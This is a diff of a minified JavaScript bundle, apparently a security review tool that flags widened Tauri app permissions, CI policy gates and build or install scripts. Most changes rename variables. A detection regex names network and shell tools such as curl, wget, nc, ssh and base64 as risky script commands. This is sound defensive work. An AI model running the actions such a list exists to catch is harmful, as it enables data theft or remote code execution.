-on3)];const[filter]=own.flatMap(trigger=>refusing(trigger,occurrence));if(filter===void 0)return[causeBy(event(before2),null,on3)];const like=before2?.filters.find(
+return[];const before3=was.triggers.find(trigger=>starts2(trigger,occurrence)),own=triggers.filter(({event:event2})=>event2.replace(/_target$/,"")===occurrence.
+event),ofPullRequest=own.find(trigger=>starts2(trigger,{...occurrence,isEdited:!1}));if(ofPullRequest!==void 0)return[causeBy(event(before3),event(ofPullRequest),
+on3)];const[filter]=own.flatMap(trigger=>refusing(trigger,occurrence));if(filter===void 0)return[causeBy(event(before3),null,on3)];const like=before3?.filters.find(
 ({setting:setting44})=>setting44===filter.setting)??null;return[causeBy(like,filter,filter.at)]}function event(trigger){return trigger===void 0?null:{setting:"o\
 n",text:trigger.event,at:trigger.at}}function refusing(trigger,occurrence){const isOfType=trigger.types.includes(occurrence.type),open={...trigger,types:[occurrence.
 type],filters:[]};return trigger.filters.filter(filter=>filter.of==="type"?!isOfType:!starts2({...open,filters:[filter]},{...occurrence,isEdited:!1}))}function gateChanges(base,head){
@@ -11742,9 +11834,9 @@ gate,occurrence));if(was===void 0)continue;const change2=changeOf10(occurrence,c
 identity,change2)}return[...changes2.values()]}function causeOf4(occurrence,was,head){const isNear=gate=>gate.path===was.path,[nearest3]=head.map(gate=>({gate,reasons:reasonsOf(
 gate,occurrence,was)})).toSorted((one3,other)=>one3.reasons.length-other.reasons.length||Number(isNear(other.gate))-Number(isNear(one3.gate))),[reason]=nearest3?.
 reasons??[],isElsewhere=nearest3!==void 0&&!isNear(nearest3.gate)&&reason?.setting==="on";return reason===void 0||isElsewhere?causeBy(was.run,null,(0,import_shared_acegos.topOf)(
-was.path)):reason}function changeOf10(occurrence,{setting:setting44,before:before2,after:after2,at:at2}){return{domain:"policy",rule:"policy/weakened",direction:"\
-widened",at:at2,witness:{kind:"policy",text:textOf10(occurrence),platform:"any",what:{kind:"gate",occurrence}},identity:JSON.stringify([at2.path,setting44,before2,
-after2]),setting:setting44,before:before2,after:after2}}var BRINGS={pull_request:"a pull request",merge_group:"a merge group",push:"a push"};function textOf10({
+was.path)):reason}function changeOf10(occurrence,{setting:setting44,before:before3,after:after2,at:at2}){return{domain:"policy",rule:"policy/weakened",direction:"\
+widened",at:at2,witness:{kind:"policy",text:textOf10(occurrence),platform:"any",what:{kind:"gate",occurrence}},identity:JSON.stringify([at2.path,setting44,before3,
+after2]),setting:setting44,before:before3,after:after2}}var BRINGS={pull_request:"a pull request",merge_group:"a merge group",push:"a push"};function textOf10({
 event:event2,type,branch,path,isEdited,unmet,moved,severity}){const kind=type===""||type==="opened"||type==="checks_requested"?"":` (${type})`,where=[...branch===
 null?[]:[` to ${branch}`],...path===null?[]:[` in ${path}`]],special=[...isEdited?[", and that edits this workflow"]:[],...unmet===null?[]:[`, while this isn't \
 met: ${unmet}`],...moved===null?[]:[`, once ${moved} does nothing`]],found12=severity===null?"that Toril refuses":`with a finding that is ${severity}`;return`${BRINGS[event2]}${kind}${where.
@@ -11804,17 +11896,17 @@ function ofWaiver(waiver){const isSame10=other=>(0,import_shared_aces.waivedKey)
 isSame10).toSorted((one3,other)=>one3.until<other.until?-1:1).at(-1);return{setting:`waivers: ${(0,import_shared_aces.waivedName)(waiver)}`,says:policy=>last(policy)?.
 until??null,at:policy=>last(policy)?.at,taken:(policy,from)=>({...policy,waivers:[...policy.waivers.filter(each=>!isSame10(each)),...from.waivers.filter(isSame10)]})}}
 function withOne(map,from,name){const value=from.get(name),others=[...map].filter(([other])=>other!==name);return new Map(value===void 0?others:[...others,[name,
-value]])}var policyComparison={domain:"policy",compare(granted2,head){const[after2]=head;if(after2===void 0)return{changes:[],gaps:[]};const before2=granted2?.[0]??
-{...after2,policy:import_shared_aces.DEFAULT_POLICY,set:new Map};return{changes:[...before2.policy.mode==="enforce"?gateChanges(before2.gates,after2.gates):[],...gained3(
-before2,after2,"widened"),...gained3(after2,before2,"narrowed")],gaps:[]}},allows:([grant2],{witness:{what}})=>grant2===void 0?!1:what.kind==="gate"?!stopsPlainly(
+value]])}var policyComparison={domain:"policy",compare(granted2,head){const[after2]=head;if(after2===void 0)return{changes:[],gaps:[]};const before3=granted2?.[0]??
+{...after2,policy:import_shared_aces.DEFAULT_POLICY,set:new Map};return{changes:[...before3.policy.mode==="enforce"?gateChanges(before3.gates,after2.gates):[],...gained3(
+before3,after2,"widened"),...gained3(after2,before3,"narrowed")],gaps:[]}},allows:([grant2],{witness:{what}})=>grant2===void 0?!1:what.kind==="gate"?!stopsPlainly(
 grant2.gates,what.occurrence):passesPlainly(grant2.policy,what),extentOf:({identity})=>({what:[identity]})};function gained3(narrow,wide,direction){const[strict,
 lax]=[narrow.policy,wide.policy],news=samplesFor(wide.weights,strict,lax).filter(sample=>!passes(strict,sample)&&passes(lax,sample)),changed=valuesOf3(strict,lax).
 filter(({says})=>says(strict)!==says(lax)),causes=changed.flatMap(value=>{const alone2=value.taken(strict,lax),sample=news.find(each=>passes(alone2,each));return sample===
 void 0?[]:[{value,sample}]}),together5=causes.length===0?changed.slice(0,1):[],[first]=news;return[...causes,...first===void 0?[]:together5.map(value=>({value,sample:first}))].
 map(({value,sample})=>changeOf11(value,sample,narrow,wide,direction))}function changeOf11(value,sample,narrow,wide,direction){const{setting:setting44,says,at:at2}=value,
-[base,head]=direction==="widened"?[narrow,wide]:[wide,narrow],[before2,after2]=[says(base.policy),says(head.policy)];return{domain:"policy",rule:"policy/weakene\
+[base,head]=direction==="widened"?[narrow,wide]:[wide,narrow],[before3,after2]=[says(base.policy),says(head.policy)];return{domain:"policy",rule:"policy/weakene\
 d",direction,at:at2?.(head.policy)??placeOf9(setting44,after2,head),witness:{kind:"policy",text:textOf11(sample),platform:"any",what:sample},identity:JSON.stringify(
-[setting44,before2,after2]),setting:setting44,before:before2,after:after2}}function placeOf9(setting44,value,{set,at:at2}){const[above=setting44]=setting44.split(
+[setting44,before3,after2]),setting:setting44,before:before3,after:after2}}function placeOf9(setting44,value,{set,at:at2}){const[above=setting44]=setting44.split(
 ": ");return set.get(`${setting44}: ${value}`)??set.get(setting44)??set.get(above)??at2}function acceptorInWords({login:login2,role,isOwn:isOwn6}){const who=`${login2===
 ""?"somebody":login2} with the role ${role??"none"}`;return isOwn6?`${who}, who wrote some of it`:who}function textOf11(sample){if(sample.kind==="waived")return`\
 a review on ${sample.on} that finds ${(0,import_shared_aces.waivedName)(sample)}, as waived`;if(sample.kind==="floor")return"a review that fails by the organisa\
@@ -11825,18 +11917,18 @@ null?"":`, of code from ${sample.source}`;return`a review that finds ${sample.ca
 compare(base,head){return{changes:[...gained4(base??[],head,"widened",base===null),...gained4(head,base??[],"narrowed",!1).filter(({rule})=>!QUIET2.has(rule))],
 gaps:[]}},allows(grants,{witness,rule}){let left2=witness.rank;for(const grant2 of grants)grant2.act===witness.act&&(0,import_shared_ce.familyOf)(grant2.rule)===
 (0,import_shared_ce.familyOf)(rule)&&(left2-=1);return left2<=0},extentOf:({acts})=>({acts})},QUIET2=new Set(["build/step-changed","build/package-script-changed",
-"build/agent-text-changed"]);function gained4(before2,after2,direction,appIsNew){const entries=new Set(before2.map(({entry})=>entry)),found12=newActs(before2,after2).
+"build/agent-text-changed"]);function gained4(before3,after2,direction,appIsNew){const entries=new Set(before3.map(({entry})=>entry)),found12=newActs(before3,after2).
 map(fresh=>({...fresh,grant:told2(fresh.grant,entries)}));return[...Map.groupBy(withoutToldCode(found12),causeOf5).values()].flatMap(group2=>{const[first,...others]=group2.
-toSorted(byWeight);return first===void 0?[]:[changeOf12([first,...others],direction,appIsNew)]})}function newActs(before2,after2){const known13=Map.groupBy(before2,
-nameOf10),run=new Set(after2.filter(({rule})=>(0,import_shared_ce.familyOf)(rule)==="run").map(({act})=>act));return[...Map.groupBy(after2.filter(grant2=>mayBeNews(
-grant2,known13,run)).toSorted(byRule),nameOf10)].flatMap(([name,doing])=>{const old=known13.get(name)??[],isCounted=doing[0]?.of!==void 0,more=isCounted?doing.length-
+toSorted(byWeight);return first===void 0?[]:[changeOf12([first,...others],direction,appIsNew)]})}function newActs(before3,after2){const known13=Map.groupBy(before3,
+nameOf11),run=new Set(after2.filter(({rule})=>(0,import_shared_ce.familyOf)(rule)==="run").map(({act})=>act));return[...Map.groupBy(after2.filter(grant2=>mayBeNews(
+grant2,known13,run)).toSorted(byRule),nameOf11)].flatMap(([name,doing])=>{const old=known13.get(name)??[],isCounted=doing[0]?.of!==void 0,more=isCounted?doing.length-
 old.length:old.length===0?1:0,doers=new Set(old.map(({of:of2})=>of2));return(isCounted?doing.filter(({of:of2})=>!doers.has(of2)):doing).slice(0,Math.max(0,more)).
 map(grant2=>({grant:grant2,rank:old.length+1}))})}function mayBeNews({rule,act,insteadOf,isGuard:isGuard3},known13,run){return isGuard3===!0||insteadOf!==void 0&&
-!known13.has(nameOf10({rule,act:insteadOf}))?!1:rule!=="build/package-script-changed"||!run.has(act)}function withoutToldCode(found12){const told3=new Set(found12.
+!known13.has(nameOf11({rule,act:insteadOf}))?!1:rule!=="build/package-script-changed"||!run.has(act)}function withoutToldCode(found12){const told3=new Set(found12.
 flatMap(({grant:grant2})=>isWhole2(grant2)?[]:[grant2.at.path])),reaching2=new Set(found12.flatMap(({grant:grant2})=>isReaching(grant2)?[commandOf4(grant2)]:[]));
 return found12.filter(({grant:grant2})=>isWhole2(grant2)?!told3.has(grant2.at.path):isReaching(grant2)||!reaching2.has(commandOf4(grant2)))}function isReaching({
 rule}){return rule!=="build/step-changed"}function commandOf4({at:at2,text:text3}){return JSON.stringify([at2.path,at2.line,text3])}function isWhole2({act}){return act.
-startsWith(import_shared_ce.WHOLE_CODE)}function nameOf10({rule,act}){return JSON.stringify([(0,import_shared_ce.familyOf)(rule),act])}function told2(grant2,entries){
+startsWith(import_shared_ce.WHOLE_CODE)}function nameOf11({rule,act}){return JSON.stringify([(0,import_shared_ce.familyOf)(rule),act])}function told2(grant2,entries){
 return!(grant2.rule==="build/hook-changed"||grant2.rule==="build/lifecycle-script-added")||!entries.has(grant2.entry)?grant2:{...grant2,rule:grant2.class==="rea\
 ches"?"build/step-reaches":"build/step-changed"}}function causeOf5({grant:{rule,at:at2,by,secrets}}){if(rule==="build/token-may-write")return JSON.stringify([rule,
 at2.path,by]);if(rule==="build/secret-in-reach")return JSON.stringify([rule,at2.path,by,secrets]);const isCode4=rule==="build/step-reaches"||rule==="build/step-\
@@ -11845,7 +11937,7 @@ indexOf(other.rule)}function byWeight({grant:one3},{grant:other}){return rankOf2
 one3.text.length}function rankOf2(seen){return CODE_CLASSES.indexOf(seen)}function changeOf12(found12,direction,appIsNew){const group2=found12.map(({grant:grant3})=>grant3),
 [{grant:grant2,rank:rank3}]=found12,{rule,act,machine,by,text:text3,class:seen,at:at2}=grant2,secrets=[...new Set(group2.flatMap(each=>each.secrets))].sort();return{
 domain:"steps",direction,rule,at:at2,identity:JSON.stringify([rule,...group2.map(each=>each.act).sort()]),witness:{kind:"step",text:shown3(text3,secrets),platform:"\
-any",machine,act,rank:rank3,secrets},by,acts:[...new Set(group2.map(each=>each.act))].sort(),texts:textsOf6(group2),class:seen,secrets,appIsNew}}function textsOf6(group2){
+any",machine,act,rank:rank3,secrets},by,acts:[...new Set(group2.map(each=>each.act))].sort(),texts:textsOf7(group2),class:seen,secrets,appIsNew}}function textsOf7(group2){
 const texts2=[...new Set(group2.map(({text:text3})=>text3))];return texts2.filter(text3=>!texts2.some(other=>other!==text3&&other.includes(text3)))}function shown3(text3,secrets){
 return secrets.length===0?text3:`${text3}  # could read ${secrets.join(", ")}`}function placeOf10(grant2){switch(grant2.domain){case"ipc":return grant2.at;case"\
 csp":return grant2.places.get("")??(0,import_shared_acegos.topOf)("");case"config":case"policy":case"commands":case"steps":return grant2.at;case"packages":return"\
@@ -11853,9 +11945,9 @@ at"in grant2?grant2.at:(0,import_shared_acegos.topOf)(grant2.path)}}var COMPARIS
 policy:policyComparison,commands:commandComparison,steps:stepComparison},DOMAINS2=Object.keys(COMPARISONS);function byDomain(grants){return{ipc:grants.filter(grant2=>grant2.
 domain==="ipc"),csp:grants.filter(grant2=>grant2.domain==="csp"),config:grants.filter(grant2=>grant2.domain==="config"),packages:grants.filter(grant2=>grant2.domain===
 "packages"),policy:grants.filter(grant2=>grant2.domain==="policy"),commands:grants.filter(grant2=>grant2.domain==="commands"),steps:grants.filter(grant2=>grant2.
-domain==="steps")}}function compareSurfaces(base,head,work,held3=byDomain([])){const before2=base??{ipc:someOrNull(held3.ipc),csp:someOrNull(held3.csp),config:someOrNull(
+domain==="steps")}}function compareSurfaces(base,head,work,held3=byDomain([])){const before3=base??{ipc:someOrNull(held3.ipc),csp:someOrNull(held3.csp),config:someOrNull(
 held3.config),packages:someOrNull(held3.packages),policy:someOrNull(held3.policy),commands:someOrNull(held3.commands),steps:someOrNull(held3.steps)},compared3=domain=>withinWork(
-()=>COMPARISONS[domain].compare(before2[domain],head[domain],work),head[domain]),results=DOMAINS2.map(compared3);return{changes:results.flatMap(({changes:changes2})=>changes2),
+()=>COMPARISONS[domain].compare(before3[domain],head[domain],work),head[domain]),results=DOMAINS2.map(compared3);return{changes:results.flatMap(({changes:changes2})=>changes2),
 gaps:results.flatMap(({gaps})=>gaps),unread:{base:results.flatMap(({unread:unread4})=>unread4?.base??[]),head:results.flatMap(({unread:unread4})=>unread4?.head??
 [])}}}function someOrNull(grants){return grants.length===0?null:grants}function withinWork(compare6,after2){try{return compare6()}catch(error){if(!(error instanceof
 OutOfWork))throw error;return{changes:[],gaps:after2.slice(0,1).map(grant2=>(0,import_shared_acegos.gapAt)(placeOf10(grant2),outOfWork(after2)))}}}function allowsWitness2(grants,change2,work){
@@ -11865,9 +11957,9 @@ change2,head[domain])}function outOfWork(after2){const[first]=after2;return{kind
 This change holds more than one review can compare, so what it newly allows is not known (${first?.domain??""}). Split it, or write its patterns more simply.`}}
 function needlessWaivers(waivers,root,{ipc},work){return waivers.flatMap(waiver=>{const{covers}=waiver;if(covers.kind==="gap"||covers.app!==root||!covers.rule.startsWith(
 "ipc/"))return[];const beyond2=beyondGranted(covers.extent,ipc,work);return beyond2===void 0?[]:[{waiver,...beyond2}]})}function beyondGranted(extent,head,work){
-const{commands:commands2=[],allow:allow2,reads:reads2=[]}=extent;if(allow2===void 0&&reads2.length>0)return;const called3=new Set(commands2),granted2=head.filter(
-({effect,command:command2})=>effect!=="allow"||called3.has(command2)),covered2=grantsWithin(extent,head),[before2,after2]=[[],covered2].map(base=>widenings(base,
-granted2,work));if(before2===void 0||after2===void 0)return;if(JSON.stringify(before2)===JSON.stringify(after2))return{beyond:null};const allowed2=new Set(granted2.
+const{commands:commands2=[],allow:allow2,reads:reads2=[]}=extent;if(allow2===void 0&&reads2.length>0)return;const called4=new Set(commands2),granted2=head.filter(
+({effect,command:command2})=>effect!=="allow"||called4.has(command2)),covered2=grantsWithin(extent,head),[before3,after2]=[[],covered2].map(base=>widenings(base,
+granted2,work));if(before3===void 0||after2===void 0)return;if(JSON.stringify(before3)===JSON.stringify(after2))return{beyond:null};const allowed2=new Set(granted2.
 flatMap(({effect,command:command2})=>effect==="allow"?[command2]:[])),missing2=commands2.find(command2=>!allowed2.has(command2));if(missing2!==void 0)return{beyond:missing2};
 const denied2=granted2.filter(({effect})=>effect==="deny"),[wider]=widenings(granted2,[...covered2,...denied2],work)??[];return wider===void 0?void 0:{beyond:wider}}
 function widenings(base,head,work){const nothing=byDomain([]),{changes:changes2,gaps}=compareSurfaces({...nothing,ipc:base},{...nothing,ipc:head},work);if(!(gaps.
@@ -11875,8 +11967,8 @@ length>0))return changes2.filter(({direction})=>direction==="widened").map(({wit
 weighs=[]}=finding,isSet=weighs.some(each=>settings3.has((0,import_shared_ce.caseOf)(id,each))),weights=import_shared_ce.rules.find(rule=>rule.id===id)?.weights;
 if(!isSet||weights===void 0)return finding;const severities=weighs.map(each=>settings3.get((0,import_shared_ce.caseOf)(id,each))??weights[each]??"info");return{
 ...finding,severity:(0,import_shared_ce.gravestOf)(severities.filter(each=>each!=="off"))}}function isTold(finding,others){const{toldBy:toldBy2,severity,app,about}=finding;
-if(toldBy2===void 0)return!1;const telling3=others.filter(other=>other.rule===toldBy2&&other.app===app&&(0,import_shared_aceps.atLeast)(other.severity,severity)),
-told3=new Set(telling3.flatMap(other=>other.about.objects));return about.packages.length>0&&about.packages.every(name=>told3.has(name))}function applyPolicy(found12,policy,owner){
+if(toldBy2===void 0)return!1;const telling2=others.filter(other=>other.rule===toldBy2&&other.app===app&&(0,import_shared_aceps.atLeast)(other.severity,severity)),
+told3=new Set(telling2.flatMap(other=>other.about.objects));return about.packages.length>0&&about.packages.every(name=>told3.has(name))}function applyPolicy(found12,policy,owner){
 const isOff=finding=>policy.rules.get(finding.rule)==="off"&&!isOfOwnRules(finding,policy),all=found12.filter(finding=>!isOff(finding)).map(finding=>({...finding,
 severity:severityBy(finding,policy,owner)})),findings=all.filter(finding=>!isTold(finding,all)),off=new Map;for(const finding of found12.filter(each=>isOff(each)&&
 !isTold(each,all)))off.set(finding.rule,(off.get(finding.rule)??0)+1);const turnedOff=[...off].map(([rule,count])=>({rule,findings:count}));return{findings,turnedOff:turnedOff.
@@ -11901,11 +11993,11 @@ import_shared_aces.ANY_APP_COMMAND:`plugin:${plugin}|*`,allowed2=grants.filter(g
 windows:windows2,webviews})=>effect==="allow"&&platforms!==import_shared_aceps.NO_PLATFORM&&windows2.length+webviews.length>0);if(allowed2.length===0)return"nob\
 ody";const isNamed6=({context:context2})=>context2.kind==="remote"&&context2.url.text!==import_shared_ce.ANY_SITE;return allowed2.some(isNamed6)?"sites":"own-pa\
 ges"}var PLAIN10=/^(?:echo|exit|true|false|:|test|\[|rem|printf)$/,NATIVE3=/^(?:node-gyp|node-gyp-build|cmake-js|cargo-cp-artifact)$/,REACHING7=/^(?:prebuild-install|node-pre-gyp|pre-gyp|curl|wget|sh|bash|zsh|dash|cmd|powershell|pwsh|npx|npm|yarn|pnpm|bun|bunx|deno|python|python3|perl|ruby|php|git|ssh|scp|nc|ncat|tar|unzip|chmod|chown|cp|mv|ln|rm|rimraf|mkdir|mkdirp|husky|cat|tee|env|printenv|eval|sudo|open|start|cargo|cmake|go|make|gcc|cc|xargs|find|sed|awk|base64|xxd|openssl|lefthook|simple-git-hooks|patch-package|electron-builder)$/,
-LEADING4=/^(?:NODE_|PATH=|LD_|DYLD_|npm_config_)/i;function commandActs(script){const parts=splitCommands(script);return parts===void 0?[{kind:"class",class:"un\
-known"}]:parts.map(actOf3)}function actOf3(words4){const rest2=withoutSettings(words4);if(words4.slice(0,words4.length-rest2.length).some(word2=>LEADING4.test(word2)))
-return{kind:"class",class:"unknown"};const[program2="",first,second]=rest2,name=program2.replace(/\.(?:cmd|exe|ps1)$/i,"");return name===""||PLAIN10.test(name)?
-{kind:"class",class:"probe"}:name==="node"||name==="nodejs"?actOfNode(rest2.slice(1)):/^(?:npm|yarn|pnpm)$/.test(name)&&(first==="run"||first==="run-script")&&second!==
-void 0?{kind:"script",name:second}:NATIVE3.test(name)?{kind:"class",class:rest2.slice(1).every(word2=>/^(?:build|clean|configure|install|rebuild|--(?:release|debug|verbose|silent))$/.
+LEADING4=/^(?:NODE_|PATH=|LD_|DYLD_|npm_config_)/i;function commandActs(script){const parts2=splitCommands(script);return parts2===void 0?[{kind:"class",class:"\
+unknown"}]:parts2.map(actOf3)}function actOf3(words4){const rest2=withoutSettings(words4);if(words4.slice(0,words4.length-rest2.length).some(word2=>LEADING4.test(
+word2)))return{kind:"class",class:"unknown"};const[program2="",first,second]=rest2,name=program2.replace(/\.(?:cmd|exe|ps1)$/i,"");return name===""||PLAIN10.test(
+name)?{kind:"class",class:"probe"}:name==="node"||name==="nodejs"?actOfNode(rest2.slice(1)):/^(?:npm|yarn|pnpm)$/.test(name)&&(first==="run"||first==="run-scrip\
+t")&&second!==void 0?{kind:"script",name:second}:NATIVE3.test(name)?{kind:"class",class:rest2.slice(1).every(word2=>/^(?:build|clean|configure|install|rebuild|--(?:release|debug|verbose|silent))$/.
 test(word2))?"native":"unknown"}:REACHING7.test(name)||/[/\\]/.test(name)?{kind:"class",class:"reaches"}:{kind:"class",class:"unknown"}}function withoutSettings(words4){
 const at2=words4.findIndex((word2,index)=>!/^[A-Za-z_]\w*=/.test(word2)&&!(index===0&&word2==="cross-env"));return at2<0?[]:words4.slice(at2)}function actOfNode(words4){
 for(const[at2,word2]of words4.entries()){const code2=words4[at2+1];if(/^-(?:e|p|pe)$|^--(?:eval|print)$/.test(word2))return code2===void 0?{kind:"class",class:"\
@@ -11914,9 +12006,9 @@ kind:"class",class:"unknown"}}else return{kind:"file",path:word2}}return{kind:"c
 let end=0;for(let found12=token2.exec(script);found12!==null;found12=token2.exec(script)){end=token2.lastIndex;const[,mark,word2]=found12;mark!==void 0?commands2.
 push([]):word2!==void 0&&commands2.at(-1)?.push(unquoted3(word2))}return script.slice(end).trim()===""?commands2.filter(words4=>words4.length>0):void 0}function unquoted3(word2){
 return word2.replace(/"((?:[^"\\]|\\.)*)"|'([^']*)'/g,(_3,double,single2)=>double===void 0?single2:double.replace(/\\(.)/g,"$1"))}var HEADERS3=/^node (?:-p|-e|--print|--eval) ["'\\]*(?:require\(["'\\]+(?:nan|node-addon-api|node-api-headers)(?:["'\\]+\)(?:\.(?:include|include_dir|gyp|targets|defines))?|\/\w+["'\\]+\))|console\.log\(require\(["'\\]+(?:nan|node-addon-api)["'\\]+\)(?:\.\w+)?\));?["'\\]*$/,
-TOLD2=/^(?:echo [\w%$ -]+|node (?:-p|--print) ["'\\]*process\.(?:arch|platform|versions\.\w+)(?:\.split\([^()]*\)\[\d\])?["'\\]*)$/;function gypCode(path,text3){
+TOLD3=/^(?:echo [\w%$ -]+|node (?:-p|--print) ["'\\]*process\.(?:arch|platform|versions\.\w+)(?:\.split\([^()]*\)\[\d\])?["'\\]*)$/;function gypCode(path,text3){
 const found12=[{class:"native",path,offset:0}],code2=text3.replace(/^\s*#[^\n]*/gm,line=>" ".repeat(line.length));for(const{index,1:command2=""}of code2.matchAll(
-/[<>^]!@?\(((?:[^()]|\((?:[^()]|\([^()]*\))*\))*)/g))!HEADERS3.test(command2.trim())&&!TOLD2.test(command2.trim())&&found12.push({class:"reaches",path,offset:index});
+/[<>^]!@?\(((?:[^()]|\((?:[^()]|\([^()]*\))*\))*)/g))!HEADERS3.test(command2.trim())&&!TOLD3.test(command2.trim())&&found12.push({class:"reaches",path,offset:index});
 for(const{index}of code2.matchAll(/["'](?:actions|rules|postbuilds|make_global_settings|copies|action|includes|dependencies)["'+]*\s*:/g))isOfHeaders(code2,index)||
 found12.push({class:"unknown",path,offset:index});return/\\(?:x|u|N|[0-7])|["'][^\S\n]*\n?[^\S\n]*["'](?=\w|[<>!^])/.exec(code2.replace(/<!@?\([^\n]*/g,""))!==null&&
 found12.push({class:"unknown",path,offset:0}),/[<>^]!/.test(code2)&&found12.length===1&&!/[<>^]!@?\(/.test(code2)&&found12.push({class:"unknown",path,offset:0}),
@@ -11940,13 +12032,13 @@ offset});continue}if(read11.has(path)&&path!==MANIFEST5)continue;if(path!==MANIF
 ge.json`){evidence2.push({class:"unknown",path:next2.from,offset:next2.offset});continue}if(path.endsWith(".json"))continue;const found12=jsCode(path,text3);evidence2.
 push(...found12.evidence);const folder=path.slice(0,path.lastIndexOf("/")+1);waiting.push(...found12.asked.map(({name,offset})=>askedFor2(name,folder,path,offset)))}
 return lacking}function askedFor2(name,folder,from,offset){const paths3=pathsOf6(name,folder),index=paths3.at(-1);return{paths:paths3,from,offset,...index!==void 0&&
-{folder:index.slice(0,-8)}}}function pathsOf6(name,folder){const parts=[];for(const part of`${folder}${name}`.replaceAll("\\","/").split("/")){if(part===".."&&parts.
-pop()===void 0)return[];part!==".."&&part!=="."&&part!==""&&parts.push(part)}const path=parts.join("/");if(name.startsWith("/"))return[];const inFolder4=path===
+{folder:index.slice(0,-8)}}}function pathsOf6(name,folder){const parts2=[];for(const part of`${folder}${name}`.replaceAll("\\","/").split("/")){if(part===".."&&
+parts2.pop()===void 0)return[];part!==".."&&part!=="."&&part!==""&&parts2.push(part)}const path=parts2.join("/");if(name.startsWith("/"))return[];const inFolder4=path===
 ""?"":`${path}/`;return[path,`${path}.js`,`${path}.cjs`,`${path}.mjs`,`${path}.json`,`${inFolder4}package.json`,`${inFolder4}index.js`].filter(each=>each!=="")}
-function tellingFile(path){const parts=path.split("/").slice(1).map(foldedName).filter(name=>name!==""),kind=TELLING7.get(parts.pop()??"");return kind!==void 0&&
-isPackageFolder(parts)?{folder:parts.join("/"),kind}:void 0}function foldedFolder(folder){return folder.split("/").map(foldedName).join("/")}var TELLING7=new Map(
-[["package.json","manifest"],["binding.gyp","build"]]);function isPackageFolder(parts){let at2=0;for(;parts[at2]==="node_modules";)at2+=parts[at2+1]?.startsWith(
-"@")?3:2;return at2===parts.length}function npmFact(manifests,builds2,texts2=new Map){const read11=scriptsOf2(manifests);if(!read11.has(""))return;const running=runningOf2(
+function tellingFile(path){const parts2=path.split("/").slice(1).map(foldedName).filter(name=>name!==""),kind=TELLING7.get(parts2.pop()??"");return kind!==void 0&&
+isPackageFolder(parts2)?{folder:parts2.join("/"),kind}:void 0}function foldedFolder(folder){return folder.split("/").map(foldedName).join("/")}var TELLING7=new Map(
+[["package.json","manifest"],["binding.gyp","build"]]);function isPackageFolder(parts2){let at2=0;for(;parts2[at2]==="node_modules";)at2+=parts2[at2+1]?.startsWith(
+"@")?3:2;return at2===parts2.length}function npmFact(manifests,builds2,texts2=new Map){const read11=scriptsOf2(manifests);if(!read11.has(""))return;const running=runningOf2(
 read11,builds2),code2=running.map(folder=>({...readingOf5(folder,read11,builds2,texts2).code,folder}));return{packages:[...read11.keys()],running,code:code2}}function npmCodeToRead(manifests,builds2){
 const read11=scriptsOf2(manifests);return texts2=>runningOf2(read11,builds2).flatMap(folder=>{const build=builds2.get(folder),lacking=readingOf5(folder,read11,builds2,
 texts2).lacking.map(path=>below8(folder,path));return build===void 0?lacking:[build,...lacking]})}function scriptsOf2(manifests){const read11=[...manifests].map(
@@ -11991,14 +12083,14 @@ function aboutCommand(change2){const isExposed=change2.rule==="commands/exposed"
 command];return{domain:"commands",who:"pages",pages:[],powers:isExposed?["app"]:[...new Set([change2.flow,...change2.also].map(({power})=>POWER[power]))],act:isExposed?
 "call commands of the app that are new or take more":import_shared_ce.DOES[change2.flow.power],objects:commands2,commands:commands2,packages:[],platforms:[],via:{
 capability:null,permission:null,through:[],packages:[]}}}function aboutPackages(change2){const who=BUILDING[change2.rule]===void 0?"publisher":"build",packages=packagesOf2(
-change2);return{domain:"packages",who,pages:[],powers:["run"],act:actOf5(change2),objects:actOf5(change2)===""?[]:packages.map(nameOf11),commands:[],packages,platforms:[],
+change2);return{domain:"packages",who,pages:[],powers:["run"],act:actOf5(change2),objects:actOf5(change2)===""?[]:packages.map(nameOf12),commands:[],packages,platforms:[],
 via:{capability:null,permission:null,through:[],packages:"path"in change2?change2.path:[]}}}function actOf5(change2){return change2.rule==="build/install-script\
 -approved"&&change2.ecosystem==="cargo"?"build scripts that cargo-deny newly lets pass, of":change2.rule==="packages/plugin-added"?change2.ecosystem==="cargo"?"\
 new Tauri plugins":"new packages that call Tauri plugins":BUILDING[change2.rule]??""}var BUILDING={"build/build-script-added":"build scripts of","build/proc-mac\
 ro-added":"macros of","build/install-script-added":"install scripts of","build/build-code-changed":"other code of","build/install-script-approved":"install scri\
 pts that are newly approved, of","build/installer-extended":"code beside packages' own scripts"};function packagesOf2(change2){return"packages"in change2?change2.
 packages:"wanted"in change2?change2.wanted:"pairs"in change2?[change2.witness.crate,change2.witness.npm].map(releaseOf3):"halves"in change2?change2.halves.map(releaseOf3):
-[]}function releaseOf3({name,version}){return version===null?name:`${name} ${version}`}function nameOf11(release){return release.replace(/ [^ ]*$/,"")}function aboutPolicy({
+[]}function releaseOf3({name,version}){return version===null?name:`${name} ${version}`}function nameOf12(release){return release.replace(/ [^ ]*$/,"")}function aboutPolicy({
 act,targets:targets3,extent,platforms}){const objects=extent==="none"?[]:targets3.filter(target=>target!==""),{does}=(0,import_shared_ce.actOf)(act.class);return{
 domain:"csp",who:"pages",pages:[],powers:[powerOf3(act.class)],act:objects.length===0?`${does}${UNNAMED[extent]}`:does,objects,commands:[],packages:[],platforms,
 via:{capability:null,permission:null,through:[],packages:[]}}}var UNNAMED={anywhere:": any host",host:"",app:": the app itself",none:""},RUNS4=new Set(["inline-\
@@ -12036,8 +12128,8 @@ s":"no policy: the pages come from a server, and Tauri sends no header with them
 absence];case"unrestricted":return"allowed: no directive restricts it";case"directive":return`allowed by ${directiveInCode(stance)}`}}function refusedInWords(stance){
 switch(stance.kind){case"no-app":return"the app is new";case"not-done":return"not done";case"directive":return`refused by ${directiveInCode(stance)}`}}function directiveInCode({
 words:words4,isCompleted}){return`${(0,import_shared_acegpst.code)(words4.join(" "),240)}${isCompleted?" with what Tauri adds to it":""}`}function ipcEffect(change2){
-const{action,refused,allowed:allowed2}=callsIn2(change2),before2=change2.appIsNew?"No page could call anything.":refused;return{subject:(0,import_shared_ce.pagesInWords)(
-change2.pages),action,base:change2.direction==="narrowed"?allowed2:before2,head:change2.direction==="narrowed"?refused:allowed2}}function callsIn2(change2){const commands2=change2.
+const{action,refused,allowed:allowed2}=callsIn2(change2),before3=change2.appIsNew?"No page could call anything.":refused;return{subject:(0,import_shared_ce.pagesInWords)(
+change2.pages),action,base:change2.direction==="narrowed"?allowed2:before3,head:change2.direction==="narrowed"?refused:allowed2}}function callsIn2(change2){const commands2=change2.
